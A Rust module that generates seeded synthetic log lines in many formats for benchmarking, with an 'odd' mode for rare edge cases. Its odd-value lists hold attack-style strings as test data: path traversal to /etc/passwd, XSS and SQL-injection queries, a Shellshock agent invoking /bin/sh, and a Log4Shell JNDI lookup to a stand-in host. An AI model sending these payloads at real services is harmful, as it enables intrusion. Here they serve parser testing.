//! Lines of every format, from a seed.
//!
//! A plain draw makes the traffic of a shop, as benchmarks want it; an odd one mixes in what is
//! rare but allowed by the format: missing values, escapes, long numbers, IPv6, foreign text.

mod aws;
mod devices;
mod web;

use jiff::tz::{Offset, TimeZone};
use std::fmt::Write;

/// One kind of line.
pub struct Kind {
    pub name: &'static str,
    /// The name of our format; the line shows it too, mostly.
    pub format: &'static str,
    /// Stands before the first line.
    pub header: &'static str,
    make: fn(&mut Draw, &mut String),
}

/// Every kind of line.
pub const KINDS: &[Kind] = &[
    kind(
        "cloudfront",
        "cloudfront",
        web::CLOUDFRONT_HEADER,
        web::cloudfront,
    ),
    kind("vpcflow", "vpcflow", "", aws::flow),
    kind("vpcflow-all", "vpcflow", "", aws::flow_of_every_field),
    kind("alb", "alb", "", aws::alb),
    kind("elb", "elb", "", aws::elb),
    kind("s3access", "s3access", "", aws::s3access),
    kind("waf", "waf", "", aws::waf),
    kind("common", "combined", "", web::common),
    kind("combined", "combined", "", web::combined),
    kind("nginx-main", "combined", "", web::nginx_main),
    kind("json", "json", "", web::json),
    kind("iis", "iis", web::IIS_HEADER, web::iis),
    kind("syslog", "syslog", "", devices::rfc5424),
    kind("syslog-3164", "syslog", "", devices::rfc3164),
    kind("cef", "cef", "", devices::cef),
    kind("logfmt", "logfmt", "", devices::logfmt),
];

const fn kind(
    name: &'static str,
    format: &'static str,
    header: &'static str,
    make: fn(&mut Draw, &mut String),
) -> Kind {
    Kind {
        name,
        format,
        header,
        make,
    }
}

/// The kind of the name.
pub fn named(name: &str) -> Option<&'static Kind> {
    KINDS.iter().find(|kind| kind.name == name)
}

impl Kind {
    /// `count` lines without their ends.
    pub fn lines(&self, seed: u64, odd: bool, count: usize) -> Vec<String> {
        let mut draw = Draw::new(seed, odd);
        (0..count).map(|_| self.line(&mut draw)).collect()
    }

    fn line(&self, draw: &mut Draw) -> String {
        let mut line = String::with_capacity(512);
        draw.tick();
        (self.make)(draw, &mut line);
        line
    }

    /// Plain lines of at least `bytes` together, each with its end, the header before them.
    pub fn text(&self, seed: u64, bytes: usize) -> String {
        let mut draw = Draw::new(seed, false);
        let mut text = String::with_capacity(bytes + 4096);
        text.push_str(self.header);
        while text.len() < bytes {
            draw.tick();
            (self.make)(&mut draw, &mut text);
            text.push('\n');
        }
        text
    }
}

/// Draws the parts of lines: the same seed, the same lines.
pub struct Draw {
    state: u64,
    odd: bool,
    /// Milliseconds since the epoch; time goes on from line to line.
    now_ms: i64,
}

/// 2026-03-01T00:00:00Z
const START_MS: i64 = 1_772_323_200_000;

impl Draw {
    fn new(seed: u64, odd: bool) -> Draw {
        Draw {
            // Zero would stay zero.
            state: seed | 1 << 63,
            odd,
            now_ms: START_MS,
        }
    }

    fn tick(&mut self) {
        self.now_ms += self.below(900) as i64;
    }

    /// xorshift64* (Marsaglia; Vigna 2016).
    fn next(&mut self) -> u64 {
        self.state ^= self.state >> 12;
        self.state ^= self.state << 25;
        self.state ^= self.state >> 27;
        self.state.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, bound: u64) -> u64 {
        (self.next() >> 16) % bound
    }

    fn of<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len() as u64) as usize]
    }

    fn one_in(&mut self, n: u64) -> bool {
        self.below(n) == 0
    }

    /// Whether the next part is an odd one: never in plain lines.
    fn odd(&mut self, n: u64) -> bool {
        self.odd && self.one_in(n)
    }

    /// One of `odd` now and then in odd lines, else one of `plain`.
    fn mostly<T: Copy>(&mut self, plain: &[T], odd: &[T]) -> T {
        if self.odd(5) { self.of(odd) } else { self.of(plain) }
    }

    fn ipv4(&mut self) -> String {
        let n = self.below(1 << 18);
        format!(
            "{}.{}.{}.{}",
            [198, 203, 81, 10][(n & 3) as usize],
            n >> 2 & 31,
            n >> 7 & 15,
            n >> 11
        )
    }

    fn ip(&mut self) -> String {
        if self.odd(6) {
            return self
                .of(&[
                    "2001:db8::1",
                    "2001:db8:0:0:1:0:0:1",
                    "::ffff:192.0.2.7",
                    "fe80::1",
                ])
                .to_owned();
        }
        self.ipv4()
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut text = String::new();
        while text.len() < digits {
            let _ = write!(text, "{:016x}", self.next());
        }
        text.truncate(digits);
        text
    }

    fn method(&mut self) -> &'static str {
        self.mostly(
            &["GET", "GET", "GET", "POST", "HEAD"],
            &["PURGE", "M-SEARCH", "OPTIONS", "VERSION_CONTROL"],
        )
    }

    fn path(&mut self) -> String {
        if self.odd(4) {
            return self.of(ODD_PATHS).to_owned();
        }
        match self.below(4) {
            0 => format!("/assets/{}/item-{}.css", self.below(40), self.below(5000)),
            1 => format!("/c/{}/p/{}", self.below(200), self.below(90_000)),
            2 => "/".to_owned(),
            _ => format!("/api/v{}/seats/{}", self.below(3), self.hex(12)),
        }
    }

    /// Without the question mark; often none.
    fn query(&mut self) -> Option<String> {
        if self.odd(4) {
            return Some(self.of(ODD_QUERIES).to_owned());
        }
        self.one_in(3)
            .then(|| format!("page={}&q=item%20{}&sort=price", self.below(50), self.below(1000)))
    }

    fn uri(&mut self) -> String {
        let path = self.path();
        match self.query() {
            Some(query) => format!("{path}?{query}"),
            None => path,
        }
    }

    fn agent(&mut self) -> String {
        if self.odd(4) {
            return self.of(ODD_AGENTS).to_owned();
        }
        let version = 90 + self.below(40);
        match self.below(3) {
            0 => format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
            ),
            1 => format!(
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
                version % 7
            ),
            _ => format!("okhttp/4.{}.0", version % 12),
        }
    }

    fn referer(&mut self) -> Option<String> {
        if self.odd(5) {
            return Some(self.of(ODD_REFERERS).to_owned());
        }
        self.one_in(2)
            .then(|| format!("https://www.shop.example/c/{}", self.below(200)))
    }

    fn status(&mut self) -> u64 {
        self.mostly(&[200, 200, 200, 304, 404, 302], &[100, 499, 500, 503, 599, 999])
    }

    fn bytes(&mut self) -> u64 {
        if self.odd(5) {
            return self.of(&[
                0,
                1,
                4_294_967_296,
                9_007_199_254_740_993,
                9_223_372_036_854_775_807,
            ]);
        }
        self.below(90_000)
    }

    fn iso(&self, digits: usize) -> String {
        jiff::Timestamp::from_millisecond(self.now_ms)
            .map(|time| format!("{time:.digits$}"))
            .unwrap_or_default()
    }

    /// By `strftime`, `offset_minutes` east of Greenwich.
    fn stamp(&self, format: &str, offset_minutes: i32) -> String {
        let offset = Offset::from_seconds(offset_minutes * 60).unwrap_or(Offset::UTC);
        jiff::Timestamp::from_millisecond(self.now_ms)
            .map(|time| {
                time.to_zoned(TimeZone::fixed(offset))
                    .strftime(format)
                    .to_string()
            })
            .unwrap_or_default()
    }

    fn clf(&mut self) -> String {
        let offset = if self.odd(3) {
            self.of(&[540, -720, 330, -210])
        } else {
            0
        };
        self.stamp("%d/%b/%Y:%H:%M:%S %z", offset)
    }
}

/// `-` for nothing.
fn dash(text: Option<String>) -> String {
    text.unwrap_or_else(|| "-".to_owned())
}

const ODD_PATHS: &[&str] = &[
    "/%ED%95%9C%EA%B8%80/%2e%2e/etc/passwd",
    "//",
    "/a;jsessionid=1?",
    "*",
    "/index.php?x[]=1&x[]=2",
    "/a'b(c)!$&*+,;=:@",
    "/~user/.git/HEAD",
    "http://proxy.example/a",
    "/a%00b",
    "/\u{d55c}\u{ae00}",
];
const ODD_QUERIES: &[&str] = &[
    "",
    "=",
    "&&",
    "q=%3Cscript%3Ealert(1)%3C/script%3E",
    "id=1'%20OR%20'1'='1",
    "a=b=c==",
    "u=https://e.example/?x=1%26y=2#f",
    "a%20b+c",
];
const ODD_AGENTS: &[&str] = &[
    "curl/8.5.0",
    "-",
    "() { :; }; /bin/sh",
    "a  b",
    "Mozilla/5.0 [en] (X11; U)",
    "x=y",
    "\u{d55c}\u{ae00}/1.0",
    "${jndi:ldap://e.example/a}",
];
const ODD_REFERERS: &[&str] = &[
    "android-app://com.example",
    "https://e.example/?q=a b",
    "about:blank",
    "https://e.example/%22",
];
